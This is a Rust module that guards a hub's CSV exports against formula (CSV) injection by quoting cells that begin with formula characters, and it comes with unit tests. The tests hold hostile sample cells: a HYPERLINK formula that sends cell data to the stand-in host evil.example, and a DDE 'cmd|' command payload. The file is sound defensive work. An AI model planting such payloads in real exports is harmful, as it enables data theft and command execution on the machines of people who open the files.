//! CSV for the hub's exports (audit records, entitlements) that a spreadsheet opens as
//! text, never as a formula. Devices and their clients choose much of what is exported
//! (a client's declared name and version, tool names, arguments), so every cell whose
//! first character would start a formula (`=`, `+`, `-`, `@`, tab or carriage return,
//! also after leading white space, and the full-width `＝ ＋ － ＠` some spreadsheets read
//! alike) gets a single quote in front, the OWASP CSV-injection rule; commas, quotes and
//! line breaks are quoted by the `csv` crate. It must never write a cell any other way:
//! the exports build their rows only through [`Csv`].

use std::borrow::Cow;

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// `cell`, with a single quote in front when a spreadsheet would read it as a formula.
pub fn inert(cell: &str) -> Cow<'_, str> {
    let starts = |s: &str| s.starts_with(FORMULA_START);
    if starts(cell) || starts(cell.trim_start()) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV document whose every cell goes through [`inert`].
pub struct Csv(csv::Writer<Vec<u8>>);

impl Csv {
    pub fn new() -> Self {
        Csv(csv::Writer::from_writer(Vec::new()))
    }

    pub fn row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.0.write_record(cells.into_iter().map(|c| inert(c.as_ref()).into_owned()))
    }

    pub fn finish(self) -> Result<String, csv::Error> {
        let bytes = self.0.into_inner().map_err(|e| csv::Error::from(e.into_error()))?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

impl Default for Csv {
    fn default() -> Self {
        Csv::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_made_inert_and_others_are_left_alone() {
        for hostile in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1",
            "\r=1",
            "  =1+1",
            "\n=1+1",
            "＝1+1",
            "＠SUM(A1)",
        ] {
            assert_eq!(inert(hostile), format!("'{hostile}"), "{hostile:?}");
        }
        for plain in ["claude-code", "read_graph", "{\"a\":\"=1\"}", "2026-11-29T10:00:00Z", "12", "", "a=b", "'"] {
            assert_eq!(inert(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn the_document_is_proper_csv_with_inert_cells() {
        let mut csv = Csv::new();
        csv.row(["client", "tool"]).unwrap();
        csv.row(["=HYPERLINK(\"http://x\",\"a,b\")", "-rm\r\nline"]).unwrap();
        let text = csv.finish().unwrap();
        let mut read = csv::Reader::from_reader(text.as_bytes());
        let row = read.records().next().unwrap().unwrap();
        assert_eq!(&row[0], "'=HYPERLINK(\"http://x\",\"a,b\")");
        assert_eq!(&row[1], "'-rm\r\nline");
        for line in text.lines().skip(1) {
            assert!(!line.starts_with(FORMULA_START), "{line:?}");
        }
    }
}
